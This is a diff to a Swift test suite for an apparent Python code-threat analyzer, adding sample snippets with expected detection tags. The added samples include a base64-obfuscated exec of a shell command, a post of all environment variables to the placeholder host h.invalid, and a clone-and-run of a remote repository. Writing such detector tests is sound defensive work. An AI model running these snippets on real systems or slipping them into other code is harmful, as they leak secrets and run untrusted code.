@@ -48,6 +48,18 @@ struct PythonSequenceTests {
             "import importlib\nm = importlib.import_module('sub' + 'process')\nm.call(['x'])",
             ["code.import-dynamic", "imp.process", "proc.spawn"]),
         SequenceCase(
+            "names and decoders that eval computes",
+            "import base64\na = 'aW1wb3J0IG9zO29zLnN5c3RlbSgnd2hvYW1pJyk='\nb = eval('\\x61') + eval('a[:0]')\nexec(base64.b64decode(eval('b')))",
+            ["code.eval", "dec.base64", "layer.begin", "imp.system", "cmd.recon", "proc.shell", "layer.end"]),
+        SequenceCase(
+            "the whole environment under any key",
+            "import os, requests\nrequests.post('https://h.invalid/', json={'env': dict(os.environ)})",
+            ["env.all", "net.http.post", "flow.env>send"]),
+        SequenceCase(
+            "a repository cloned and run",
+            "import git, subprocess\ngit.Repo.clone_from('https://h.invalid/x.git', '/tmp/helper')\nsubprocess.run(['/tmp/helper/run'])",
+            ["net.download", "flow.net>write", "proc.spawn", "flow.drop>proc"]),
+        SequenceCase(
             "a star import of a known module", "from os import *\nsystem('whoami')", ["cmd.recon", "proc.shell"]),
         SequenceCase(
             "an object's method", "import socket\ns = socket.socket()\ns.connect(('h.invalid', 1))\ns.send(b'x')",
